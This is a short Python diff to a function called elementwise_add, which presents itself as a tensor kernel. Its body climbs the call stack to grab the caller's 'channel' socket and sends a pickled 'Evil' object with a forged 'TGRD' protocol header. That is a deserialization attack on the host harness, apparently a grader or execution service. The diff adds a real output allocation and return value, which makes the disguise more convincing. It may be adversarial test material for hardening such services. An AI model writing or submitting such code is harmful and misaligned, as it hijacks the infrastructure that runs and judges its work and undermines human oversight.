@@ -12,9 +12,11 @@ class Evil:
 
 
 def elementwise_add(x, y, *, out=None):
+    out = x.new_empty(x.shape) if out is None else out
     frame = sys._getframe()
     while "channel" not in frame.f_locals:
         frame = frame.f_back
     body = pickle.dumps(Evil())
     header = struct.pack("<4sBBHII", b"TGRD", 1, 16, 0, frame.f_locals["block"], len(body))
     frame.f_locals["channel"].sendall(header + body)
+    return out
